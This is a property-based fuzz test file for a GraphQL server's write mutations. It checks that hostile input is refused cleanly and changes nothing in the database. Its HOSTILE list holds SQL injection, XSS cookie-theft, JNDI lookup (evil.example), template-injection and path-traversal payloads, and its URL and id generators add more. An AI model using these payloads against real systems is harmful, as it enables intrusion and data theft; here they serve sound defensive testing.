import fc from "fast-check";
import { DataSource } from "typeorm";
import { createContext } from "../../server/src/app/context";
import { AppServer, createServer } from "../../server/src/app/create-server";
import { ActorKind, CooperationKind, Level, MeasureStatus, MembershipRole, NetworkKind } from "../../server/src/common/enums";
import { NodeType, toGlobalId } from "../../server/src/common/global-id";
import { authConfig } from "../../server/src/config";
import { openDatabase } from "../../server/src/db/data-source";
import { ensureReferenceData } from "../../server/src/db/seed/reference-data";
import { ContactPerson } from "../../server/src/modules/actors/actor.entity";
import { Role } from "../../server/src/modules/auth/auth.enums";
import { createAccount } from "../../server/src/modules/auth/auth.service";
import { Viewer } from "../../server/src/modules/auth/viewer";
import { buildActor, buildCooperation, buildHandler, buildMeasure, buildMeeting, buildMembership, buildNetwork } from "../factories";
import { databaseKinds, DbKind, freshDatabase } from "../helpers/databases";

/**
 * Property-based tests of the write mutations with random and hostile input: huge strings, unicode, control
 * characters, SQL and HTML injection, NaN/Infinity/huge numbers, ids of other types, empty and duplicated lists,
 * missing and unknown enum values. Every call either succeeds or is refused with BAD_USER_INPUT (naming the
 * fields), NOT_FOUND or — for updates with a stale version — CONFLICT; never an internal error. A refusal leaves
 * the database exactly as it was.
 *
 * The calls go through Apollo's whole request pipeline in process (`executeOperation`: parsing, validation,
 * variable coercion, the plugins, the resolvers, the services and `formatError`), without the HTTP hop.
 */

/**
 * Runs per property (the numbers are in the test names). `npm test` runs 1,000 on SQLite and 200 on MySQL, so CI's
 * whole run stays short; `npm run test:fuzz` runs the full campaign, 10,000 per property on both databases.
 * FUZZ_RUNS_SQLITE and FUZZ_RUNS_MYSQL set other numbers; FUZZ_SEED replays a reported failure.
 */
const RUNS: Record<DbKind, number> = { sqlite: Number(process.env.FUZZ_RUNS_SQLITE ?? 1_000), mysql: Number(process.env.FUZZ_RUNS_MYSQL ?? 200) };
/** Codes a refusal may carry. CONFLICT only where a version is part of the input. */
const REFUSALS = new Set(["BAD_USER_INPUT", "NOT_FOUND"]);

/** Hostile strings every text field is tried with. */
const HOSTILE = [
  "",
  " ",
  "\t\n\r ",
  "\u0000",
  "a\u0000b",
  "\u0007\u001b[31m",
  "'; DROP TABLE actor; --",
  "\" OR \"1\"=\"1",
  "1' OR '1'='1' /*",
  "Robert'); DELETE FROM measure;--",
  "\\",
  "%",
  "_%_",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "javascript:alert(1)",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "\u202Egnp.exe",
  "\uFEFFBOM",
  "🙂🇩🇪👩‍👩‍👧",
  "\uD800",
  "\uDFFF\uD800",
  "Ä".normalize("NFD"),
  "NaN",
  "Infinity",
  "null",
  "undefined",
  "[object Object]",
  "__proto__",
  "constructor",
];
/** Characters repeated up to and beyond the column limits (60, 200, 300, 10,000, 20,000 …). */
const REPEATED = ["a", "ß", "€", "🙂", "\u0301", "\uFE0F", "'", "<", " "];
const LENGTHS = [59, 60, 61, 199, 200, 201, 299, 300, 301, 2000, 2001, 5001, 10_000, 10_001, 20_000, 20_001, 70_000];

const hugeString = fc.tuple(fc.constantFrom(...REPEATED), fc.constantFrom(...LENGTHS)).map(([c, n]) => c.repeat(n));
/** Any text at all: random, binary, hostile or huge. */
const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: hugeString },
);
/**
 * Text a careful client could send for a field of at most `max` characters: any unicode (emoji, combining marks,
 * German umlauts), injection strings that are valid text, and strings exactly at the limit in 1-, 2- and 4-byte
 * characters (the database must hold what validation lets through).
 */
const validText = (max: number, blankOk = true) =>
  fc
    .oneof(
      { weight: 4, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: Math.min(max, 40) }) },
      { weight: 2, arbitrary: fc.constantFrom("Caritas Lörrach", "Sprachcafé für Frauen", "Jugendmigrationsdienst", "'; DROP TABLE actor; --", "<b>fett</b> & <i>kursiv</i>", "Ärztliche Sprechstunde – türkçe/عربي") },
      { weight: 1, arbitrary: fc.constantFrom("a", "ß", "🙂").map((c) => c.repeat(max)) },
    )
    .filter((v) => blankOk || /\S/.test(v));

const BAD_NUMBERS = [NaN, Infinity, -Infinity, -1, -0, 0.5, 1e308, -1e308, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53, Number.MAX_SAFE_INTEGER + 2, 131, 1_000_001, 100_001];
const badNumber = fc.oneof(fc.constantFrom(...BAD_NUMBERS), fc.integer(), fc.double());
const enumJunk = fc.constantFrom("SPACESHIP", "", "actor", "1", "COUNTY ", "null");
const isoDate = (from = "1900-01-01", to = "2100-12-31") =>
  fc.date({ min: new Date(`${from}T00:00:00Z`), max: new Date(`${to}T00:00:00Z`), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
const badDate = fc.oneof(fc.constantFrom("2026-02-30", "2026-13-01", "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2026-1-1", "20260101", "2026-01-01T00:00:00Z", "morgen"), text);
const validUrl = fc.webUrl({ validSchemes: ["https", "http"] }).filter((u) => u.length <= 300);
const badUrl = fc.oneof(fc.constantFrom("javascript:alert(1)", "ftp://x.example", "http://", "https://ex ample.org", "data:text/html,<script>alert(1)</script>"), text);
const validEmail = fc.emailAddress().filter((e) => e.length <= 200);
const validPhone = fc.stringMatching(/^[0-9+()/\-. ]{3,20}$/);
const validLanguage = fc.constantFrom("de", "tr", "ar", "prs", "uk", "ti");

interface Fixture {
  ids: Record<NodeType, string[]>;
  /** Ids of the wrong type, of rows that do not exist, and junk. */
  bogus: string[];
  targetActor: number;
  targetMeasure: number;
  targetNetwork: number;
  targetHandler: number;
  targetCooperation: number;
  targetMeeting: number;
  targetMembership: number;
  ownContacts: string[];
}

/** One input field: what a valid value looks like, and what hostile values of (mostly) the right type look like. */
interface FieldGen {
  valid: fc.Arbitrary<unknown>;
  hostile: fc.Arbitrary<unknown>;
}
const gen = (valid: fc.Arbitrary<unknown>, hostile: fc.Arbitrary<unknown>): FieldGen => ({ valid, hostile });
/** Optional fields may also be null. */
const opt = (g: FieldGen): FieldGen => ({ valid: fc.option(g.valid, { nil: null, freq: 5 }), hostile: g.hostile });

const textField = (max: number, blankOk = true) => gen(validText(max, blankOk), text);
const intField = (min: number, max: number) => gen(fc.integer({ min, max }), badNumber);
const enumField = (values: string[]) => gen(fc.constantFrom(...values), enumJunk);
const dateField = () => gen(isoDate(), badDate);
const boolField = () => gen(fc.boolean(), fc.constantFrom("true", 1, 0, "yes", null));
const idField = (f: Fixture, type: NodeType) => gen(fc.constantFrom(...f.ids[type]), fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...f.bogus) }, { weight: 1, arbitrary: text }));
const idListField = (f: Fixture, type: NodeType, max = 4) =>
  gen(
    fc.uniqueArray(fc.constantFrom(...f.ids[type]), { minLength: 1, maxLength: max }),
    fc.oneof(
      fc.array(fc.oneof(fc.constantFrom(...f.ids[type]), fc.constantFrom(...f.bogus)), { minLength: 1, maxLength: max }),
      fc.constant([] as string[]),
      fc.constantFrom(...f.ids[type]).map((id) => [id, id, id]),
      fc.constantFrom(...f.ids[type]).map((id) => Array.from({ length: 101 }, () => id)),
      fc.array(text, { maxLength: 3 }),
    ),
  );
const textListField = (max: number, each: number) => gen(fc.array(validText(each, false), { maxLength: max }), fc.oneof(fc.array(text, { maxLength: 5 }), fc.constant(Array.from({ length: 120 }, (_, i) => `x${i}`))));
const languagesField = () => gen(fc.uniqueArray(validLanguage, { maxLength: 3 }), fc.oneof(fc.array(text, { minLength: 1, maxLength: 3 }), fc.constant(["DE"]), fc.constant(["deutsch"])));

/**
 * Inputs for one mutation: mostly a consistent, valid input (so the write path runs), often with one or two
 * fields replaced by hostile values, sometimes a required field missing or an unknown one added, sometimes
 * hostile throughout.
 */
function inputs(fields: Record<string, FieldGen>, required: string[], consistent: (v: Record<string, any>) => Record<string, any> = (v) => v): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(fields);
  const valid = fc.record(Object.fromEntries(keys.map((k) => [k, fields[k].valid])), { requiredKeys: required as never[] }).map((v) => consistent({ ...v }));
  const hostile = fc.record(Object.fromEntries(keys.map((k) => [k, fields[k].hostile])));
  return fc.oneof(
    { weight: 4, arbitrary: valid },
    { weight: 5, arbitrary: fc.tuple(valid, hostile, fc.subarray(keys, { minLength: 1, maxLength: 2 })).map(([v, h, ks]) => ({ ...v, ...Object.fromEntries(ks.map((k) => [k, h[k]])) })) },
    { weight: 1, arbitrary: fc.tuple(valid, fc.constantFrom(...keys)).map(([v, k]) => Object.fromEntries(Object.entries(v).filter(([key]) => key !== k))) },
    { weight: 1, arbitrary: valid.map((v) => ({ ...v, unknownField: "x" })) },
    { weight: 1, arbitrary: hostile },
  );
}

const sortPair = (v: Record<string, any>, a: string, b: string) => {
  if (v[a] != null && v[b] != null && v[a] > v[b]) [v[a], v[b]] = [v[b], v[a]];
};

const contactPersonFields = (f: Fixture): Record<string, FieldGen> => ({
  id: opt(gen(fc.constantFrom(...f.ownContacts), fc.oneof(fc.constantFrom(...f.ids.ContactPerson), fc.constantFrom(...f.bogus)))),
  name: textField(200, false),
  role: opt(textField(200)),
  email: opt(gen(validEmail, text)),
  phone: opt(gen(validPhone, text)),
});
const contactPersons = (f: Fixture): FieldGen => {
  const fields = contactPersonFields(f);
  const one = (pick: "valid" | "hostile") => fc.record(Object.fromEntries(Object.entries(fields).map(([k, g]) => [k, g[pick]])), { requiredKeys: ["name"] as never[] });
  return gen(
    fc.array(one("valid"), { maxLength: 3 }).map((list) => {
      // An id may appear once in the list.
      const seen = new Set<unknown>();
      return list.map((c) => (c.id != null && seen.has(c.id) ? { ...c, id: null } : (seen.add(c.id), c)));
    }),
    fc.oneof(fc.array(one("hostile"), { minLength: 1, maxLength: 3 }), fc.constant(Array.from({ length: 51 }, (_, i) => ({ name: `Person ${i}` })))),
  );
};

const actorFields = (f: Fixture): Record<string, FieldGen> => ({
  name: textField(200, false),
  shortName: opt(textField(60)),
  kind: enumField(Object.values(ActorKind)),
  level: enumField(Object.values(Level)),
  description: textField(10_000),
  website: opt(gen(validUrl, badUrl)),
  email: opt(gen(validEmail, text)),
  phone: opt(gen(validPhone, text)),
  address: opt(textField(300)),
  municipalityId: opt(idField(f, "Municipality")),
  languages: languagesField(),
  tags: textListField(5, 60),
  contactPersons: contactPersons(f),
});

const measureFields = (f: Fixture): Record<string, FieldGen> => ({
  title: textField(300, false),
  description: textField(20_000),
  providerId: idField(f, "Actor"),
  fieldOfActionIds: idListField(f, "FieldOfAction"),
  targetGroupIds: opt(idListField(f, "TargetGroup")),
  municipalityIds: opt(idListField(f, "Municipality")),
  partnerIds: opt(idListField(f, "Actor", 2)),
  countyWide: boolField(),
  ageMin: opt(intField(0, 130)),
  ageMax: opt(intField(0, 130)),
  languages: opt(languagesField()),
  venue: opt(textField(300)),
  startDate: opt(dateField()),
  endDate: opt(dateField()),
  schedule: opt(textField(300)),
  capacity: opt(intField(0, 1_000_000)),
  cost: opt(gen(fc.double({ min: 0, max: 100_000, noNaN: true }), badNumber)),
  costNote: opt(textField(300)),
  funding: opt(gen(fc.array(fc.record({ source: validText(200, false), level: fc.constantFrom(...Object.values(Level)) }), { maxLength: 3 }), fc.array(fc.record({ source: text, level: enumJunk }), { minLength: 1, maxLength: 2 }))),
  level: enumField(Object.values(Level)),
  status: enumField(Object.values(MeasureStatus)),
  published: boolField(),
  registrationUrl: opt(gen(validUrl, badUrl)),
  lastConfirmedOn: opt(dateField()),
});

/** Cross-field rules a valid measure keeps: ages and dates in order, a place unless county-wide, not its own partner. */
const consistentMeasure = (providerId: string | null) => (v: Record<string, any>) => {
  sortPair(v, "ageMin", "ageMax");
  sortPair(v, "startDate", "endDate");
  if (v.countyWide === false && !v.municipalityIds?.length) v.countyWide = true;
  const provider = v.providerId ?? providerId;
  if (Array.isArray(v.partnerIds)) v.partnerIds = v.partnerIds.filter((p: string) => p !== provider);
  return v;
};

/** The version to send: usually the row's current one (so updates can succeed), sometimes a stale or absurd one. */
const versionArb = fc.oneof({ weight: 8, arbitrary: fc.constant("CURRENT" as const) }, { weight: 1, arbitrary: fc.integer({ min: -5, max: 5 }) }, { weight: 1, arbitrary: badNumber });
/** The row to update: usually the target, sometimes an unknown one or one of another type. */
const targetArb = (f: Fixture, type: NodeType, id: number) => fc.oneof({ weight: 8, arbitrary: fc.constant(toGlobalId(type, id)) }, { weight: 1, arbitrary: fc.constantFrom(...f.bogus) });

interface MutationSpec {
  name: string;
  inputType: string;
  /** Whether a stale version may be refused with CONFLICT. */
  versioned: boolean;
  /** For updates: the table and row the `CURRENT` version is read from. */
  target?: (f: Fixture) => { table: string; id: number };
  input(f: Fixture): fc.Arbitrary<Record<string, unknown>>;
}

/** An update of the fixture's row of `type`: the given fields (none required), the row's id and a version. */
function updateSpec(
  name: string,
  inputType: string,
  type: NodeType,
  table: string,
  row: (f: Fixture) => number,
  fields: (f: Fixture) => Record<string, FieldGen>,
  consistent?: (f: Fixture) => (v: Record<string, any>) => Record<string, any>,
): MutationSpec {
  return {
    name,
    inputType,
    versioned: true,
    target: (f) => ({ table, id: row(f) }),
    input: (f) => fc.tuple(inputs(fields(f), [], consistent?.(f)), targetArb(f, type, row(f)), versionArb).map(([values, id, version]) => ({ ...values, id, version })),
  };
}

const handlerFields = (f: Fixture): Record<string, FieldGen> => ({
  actorId: idField(f, "Actor"),
  fieldOfActionId: idField(f, "FieldOfAction"),
  countyWide: boolField(),
  priority: intField(1, 99),
  targetGroupIds: opt(idListField(f, "TargetGroup")),
  municipalityIds: opt(idListField(f, "Municipality")),
  ageMin: opt(intField(0, 130)),
  ageMax: opt(intField(0, 130)),
  languages: opt(languagesField()),
  note: opt(textField(2000)),
});
const consistentHandler = (v: Record<string, any>) => {
  sortPair(v, "ageMin", "ageMax");
  if (v.countyWide === false && !v.municipalityIds?.length) v.countyWide = true;
  return v;
};
const periodFields = (from: string, to: string): Record<string, FieldGen> => ({ [from]: opt(dateField()), [to]: opt(dateField()) });
const cooperationFields = (): Record<string, FieldGen> => ({ kind: enumField(Object.values(CooperationKind)), ...periodFields("since", "until"), note: opt(textField(5000)) });
const networkFields = (): Record<string, FieldGen> => ({ name: textField(200, false), shortName: opt(textField(60)), kind: enumField(Object.values(NetworkKind)), description: textField(10_000) });
const meetingFields = (): Record<string, FieldGen> => ({
  date: dateField(),
  title: textField(300, false),
  location: opt(textField(300)),
  minutes: textField(50_000),
  decisions: textListField(5, 2000),
});
const ordered = (a: string, b: string) => (v: Record<string, any>) => (sortPair(v, a, b), v);

const SPECS: MutationSpec[] = [
  { name: "createActor", inputType: "CreateActorInput", versioned: false, input: (f) => inputs(actorFields(f), ["name", "kind", "level"]) },
  updateSpec("updateActor", "UpdateActorInput", "Actor", "actor", (f) => f.targetActor, actorFields),
  {
    name: "createMeasure",
    inputType: "CreateMeasureInput",
    versioned: false,
    input: (f) => inputs(measureFields(f), ["title", "providerId", "fieldOfActionIds", "level", "countyWide"], consistentMeasure(null)),
  },
  updateSpec(
    "updateMeasure",
    "UpdateMeasureInput",
    "Measure",
    "measure",
    (f) => f.targetMeasure,
    (f) => {
      const { providerId: _provider, ...fields } = measureFields(f);
      return fields;
    },
    (f) => consistentMeasure(toGlobalId("Actor", f.targetActor)),
  ),
  { name: "createHandler", inputType: "CreateHandlerInput", versioned: false, input: (f) => inputs(handlerFields(f), ["actorId", "fieldOfActionId", "countyWide"], consistentHandler) },
  updateSpec("updateHandler", "UpdateHandlerInput", "Handler", "handler", (f) => f.targetHandler, handlerFields, () => consistentHandler),
  {
    name: "createCooperation",
    inputType: "CreateCooperationInput",
    versioned: false,
    input: (f) =>
      inputs({ actorAId: idField(f, "Actor"), actorBId: idField(f, "Actor"), ...cooperationFields() }, ["actorAId", "actorBId", "kind"], (v) => {
        sortPair(v, "since", "until");
        if (v.actorAId === v.actorBId) v.actorBId = f.ids.Actor.find((a) => a !== v.actorAId);
        return v;
      }),
  },
  updateSpec("updateCooperation", "UpdateCooperationInput", "Cooperation", "cooperation", (f) => f.targetCooperation, cooperationFields, () => ordered("since", "until")),
  { name: "createNetwork", inputType: "CreateNetworkInput", versioned: false, input: () => inputs(networkFields(), ["name", "kind"]) },
  updateSpec("updateNetwork", "UpdateNetworkInput", "Network", "network", (f) => f.targetNetwork, networkFields),
  {
    name: "addMembership",
    inputType: "AddMembershipInput",
    versioned: false,
    input: (f) =>
      inputs(
        {
          networkId: gen(fc.constant(toGlobalId("Network", f.targetNetwork)), fc.oneof(fc.constantFrom(...f.bogus), text)),
          actorId: idField(f, "Actor"),
          role: enumField(Object.values(MembershipRole)),
          ...periodFields("since", "until"),
        },
        ["networkId", "actorId"],
        ordered("since", "until"),
      ),
  },
  updateSpec("updateMembership", "UpdateMembershipInput", "Membership", "membership", (f) => f.targetMembership, () => ({ role: enumField(Object.values(MembershipRole)), ...periodFields("since", "until") }), () => ordered("since", "until")),
  {
    name: "createMeeting",
    inputType: "CreateMeetingInput",
    versioned: false,
    input: (f) =>
      inputs(
        {
          networkId: gen(fc.constant(toGlobalId("Network", f.targetNetwork)), fc.oneof(fc.constantFrom(...f.bogus), text)),
          ...meetingFields(),
          participantIds: gen(fc.uniqueArray(fc.constantFrom(...f.ids.Actor), { maxLength: 3 }), idListField(f, "Actor").hostile),
        },
        ["networkId", "date", "title"],
      ),
  },
  updateSpec("updateMeeting", "UpdateMeetingInput", "Meeting", "meeting", (f) => f.targetMeeting, meetingFields),
];

/** Row counts and version sums of every table a mutation can write, plus the update targets in full. */
async function checksum(ds: DataSource, f: Fixture): Promise<string> {
  const tables = [
    "actor",
    "contact_person",
    "measure",
    "measure_field",
    "measure_target_group",
    "measure_municipality",
    "measure_partner",
    "handler",
    "handler_target_group",
    "handler_municipality",
    "cooperation",
    "network",
    "membership",
    "meeting",
    "meeting_participant",
    "audit_entry",
    "overlap",
  ];
  const versioned = new Set(["actor", "measure", "handler", "cooperation", "network", "membership", "meeting", "overlap"]);
  const parts = tables.map((t) => `(SELECT COUNT(*) FROM ${t}) AS c_${t}` + (versioned.has(t) ? `, (SELECT COALESCE(SUM(version), 0) FROM ${t}) AS v_${t}` : ""));
  const [counts] = await ds.query(`SELECT ${parts.join(", ")}`);
  const [targets] = await Promise.all([
    Promise.all([
      ds.query("SELECT * FROM actor WHERE id = ?", [f.targetActor]),
      ds.query("SELECT * FROM contact_person WHERE actorId = ? ORDER BY id", [f.targetActor]),
      ds.query("SELECT * FROM measure WHERE id = ?", [f.targetMeasure]),
      ds.query("SELECT * FROM measure_municipality WHERE measureId = ? ORDER BY municipalityId", [f.targetMeasure]),
      ds.query("SELECT * FROM measure_partner WHERE measureId = ? ORDER BY actorId", [f.targetMeasure]),
      ds.query("SELECT * FROM handler WHERE id = ?", [f.targetHandler]),
      ds.query("SELECT * FROM cooperation WHERE id = ?", [f.targetCooperation]),
      ds.query("SELECT * FROM network WHERE id = ?", [f.targetNetwork]),
      ds.query("SELECT * FROM meeting WHERE id = ?", [f.targetMeeting]),
      ds.query("SELECT * FROM membership WHERE id = ?", [f.targetMembership]),
    ]),
  ]);
  return JSON.stringify([Object.fromEntries(Object.entries(counts).map(([k, v]) => [k, Number(v)])), targets]);
}

describe.each(databaseKinds())("hostile input on %s", (kind) => {
  let ds: DataSource;
  let server: AppServer;
  let drop: () => Promise<void>;
  let viewer: Viewer;
  let f: Fixture;
  const timings: string[] = [];

  beforeAll(async () => {
    const db = await freshDatabase(kind);
    drop = db.drop;
    ds = await openDatabase(db.config);
    await ensureReferenceData(ds);
    server = await createServer({ ds });
    const account = await createAccount(ds, { email: `fuzz-${Date.now()}@fuzz.example`, password: "fuzz-password-123", role: Role.COMMISSIONER, demo: true });
    viewer = { accountId: account.rowId, email: account.email, role: Role.COMMISSIONER, actorId: null, sessionHash: "" };
    const [a1, a2, a3] = [await buildActor(ds), await buildActor(ds), await buildActor(ds)];
    const contacts = ds.getRepository(ContactPerson);
    const own = [
      await contacts.save(contacts.create({ actorId: a1.rowId, name: "Eigene Person 1", role: null, email: null, phone: null, position: 0 })),
      await contacts.save(contacts.create({ actorId: a1.rowId, name: "Eigene Person 2", role: null, email: null, phone: null, position: 1 })),
    ];
    const foreign = await contacts.save(contacts.create({ actorId: a2.rowId, name: "Fremde Person", role: null, email: null, phone: null, position: 0 }));
    const rows = async (table: string) => ((await ds.query(`SELECT id FROM ${table} ORDER BY id`)) as { id: number }[]).map((r) => Number(r.id));
    const [fields, groups, places] = [await rows("field_of_action"), await rows("target_group"), await rows("municipality")];
    const m = await buildMeasure(ds, a1.rowId, {}, { fields: [fields[0]] });
    const net = await buildNetwork(ds);
    const handler = await buildHandler(ds, a1.rowId, fields[0]);
    const cooperation = await buildCooperation(ds, a1.rowId, a2.rowId);
    const meeting = await buildMeeting(ds, net.rowId, [a1.rowId]);
    const membership = await buildMembership(ds, net.rowId, a3.rowId);
    const ids = (type: NodeType, local: number[]) => local.map((i) => toGlobalId(type, i));
    f = {
      ids: {
        Actor: ids("Actor", [a1.rowId, a2.rowId, a3.rowId]),
        ContactPerson: ids("ContactPerson", [...own.map((c) => c.rowId), foreign.rowId]),
        Measure: ids("Measure", [m.rowId]),
        Network: ids("Network", [net.rowId]),
        FieldOfAction: ids("FieldOfAction", fields.slice(0, 5)),
        TargetGroup: ids("TargetGroup", groups.slice(0, 5)),
        Municipality: ids("Municipality", places.slice(0, 5)),
      } as Record<NodeType, string[]>,
      bogus: [
        toGlobalId("Measure", a1.rowId),
        toGlobalId("Network", a1.rowId),
        toGlobalId("Actor", 2 ** 31 + 7),
        toGlobalId("Actor", 999_999),
        toGlobalId("FieldOfAction", 999_999),
        toGlobalId("Municipality", net.rowId + 10_000),
        toGlobalId("Account", account.rowId),
        Buffer.from("Actor:0").toString("base64url"),
        Buffer.from("Actor:-1").toString("base64url"),
        Buffer.from("Actor:1 OR 1=1").toString("base64url"),
        Buffer.from("Actor:99999999999999999999").toString("base64url"),
        "",
        "garbage",
        "A".repeat(500),
      ],
      targetActor: a1.rowId,
      targetMeasure: m.rowId,
      targetNetwork: net.rowId,
      targetHandler: handler.rowId,
      targetCooperation: cooperation.rowId,
      targetMeeting: meeting.rowId,
      targetMembership: membership.rowId,
      ownContacts: ids("ContactPerson", own.map((c) => c.rowId)),
    };
  }, 120_000);

  afterAll(async () => {
    if (timings.length) console.log(`fuzz on ${kind}: ${timings.join("; ")}`);
    await server?.stop();
    await ds?.destroy();
    await drop?.();
  });

  /** Runs one operation through Apollo's pipeline as the commissioner; returns the formatted errors and data. */
  async function execute(query: string, variables: Record<string, unknown>) {
    const response = await server.apollo.executeOperation({ query, variables }, { contextValue: createContext(ds, authConfig(), viewer) });
    if (response.body.kind !== "single") throw new Error("unexpected incremental response");
    return response.body.singleResult;
  }

  function run(spec: MutationSpec, input: Record<string, unknown>) {
    const selection = spec.name === "createMeasure" ? "measure { id version }" : spec.name === "addMembership" ? "membership { id }" : "__typename";
    return execute(`mutation($i: ${spec.inputType}!) { ${spec.name}(input: $i) { ${selection} } }`, { i: input });
  }

  /**
   * Every accepted measure is archived again (through the API), so each run meets the same set of active offerings.
   * Without it, the generator's few valid texts make thousands of mutually overlapping offerings, whose n² overlap
   * pairs — not input handling — would set the cost of each further run.
   */
  async function archiveCreated(payload: { measure: { id: string; version: number } }) {
    const archived = await execute(`mutation($i: ArchiveInput!) { archiveMeasure(input: $i) { measure { archived } } }`, { i: { id: payload.measure.id, version: payload.measure.version } });
    expect(archived.errors).toBeUndefined();
  }

  /** Every accepted seat is removed again, so the next run can add it anew (an actor holds one seat per period). */
  async function removeSeat(payload: { membership: { id: string } }) {
    const removed = await execute(`mutation($i: RemoveMembershipInput!) { removeMembership(input: $i) { network { id } } }`, { i: { id: payload.membership.id } });
    expect(removed.errors).toBeUndefined();
  }

  async function currentVersion(spec: MutationSpec): Promise<number> {
    const { table, id } = spec.target!(f);
    return Number((await ds.query(`SELECT version FROM ${table} WHERE id = ?`, [id]))[0].version);
  }

  it.each(SPECS.map((s) => [s.name, RUNS[kind].toLocaleString("en"), s] as const))(`%s: %s random and hostile inputs, never an internal error, refusals change nothing`, async (_name, _runs, spec) => {
    const runs = RUNS[kind];
    const started = Date.now();
    let state = await checksum(ds, f);
    const outcome = { ok: 0, refused: 0 };
    await fc.assert(
      fc.asyncProperty(spec.input(f), async (generated) => {
        const input = { ...generated };
        if (input.version === "CURRENT") input.version = await currentVersion(spec);
        const result = await run(spec, input);
        if (!result.errors?.length) {
          expect(result.data?.[spec.name]).toBeTruthy();
          outcome.ok++;
          if (spec.name === "createMeasure") await archiveCreated(result.data![spec.name] as { measure: { id: string; version: number } });
          if (spec.name === "addMembership") await removeSeat(result.data![spec.name] as { membership: { id: string } });
          state = await checksum(ds, f);
          return;
        }
        outcome.refused++;
        const e = result.errors[0];
        const code = String(e.extensions?.code);
        const allowed = REFUSALS.has(code) || (spec.versioned && code === "CONFLICT");
        if (!allowed) throw new Error(`${spec.name} answered ${code}: ${e.message.slice(0, 300)}`);
        expect(result.errors).toHaveLength(1);
        const fields = e.extensions?.fields as { path: string; message: string }[] | undefined;
        if (code === "BAD_USER_INPUT") {
          expect(Array.isArray(fields) && fields.length > 0).toBe(true);
          for (const fe of fields!) {
            expect(typeof fe.path).toBe("string");
            expect(fe.path.length).toBeGreaterThan(0);
            expect(typeof fe.message).toBe("string");
          }
        }
        if (code === "NOT_FOUND" && fields) expect(fields.length).toBeGreaterThan(0);
        // No SQL, stack or driver text reaches the client.
        expect(JSON.stringify(e)).not.toMatch(/\bSELECT \w|INSERT INTO|UPDATE `|\bER_[A-Z_]+|SQLITE_[A-Z]|QueryFailedError|\.ts:\d+|node_modules/);
        expect(await checksum(ds, f)).toBe(state);
      }),
      { numRuns: runs, endOnFailure: kind === "mysql", ...(process.env.FUZZ_SEED ? { seed: Number(process.env.FUZZ_SEED) } : {}) },
    );
    timings.push(`${spec.name} ${((Date.now() - started) / 1000).toFixed(1)} s (${outcome.ok} accepted, ${outcome.refused} refused)`);
    // Both outcomes must occur, or the generators test only one path.
    expect(outcome.ok).toBeGreaterThan(runs / 10);
    expect(outcome.refused).toBeGreaterThan(runs / 10);
  }, 900_000);
});
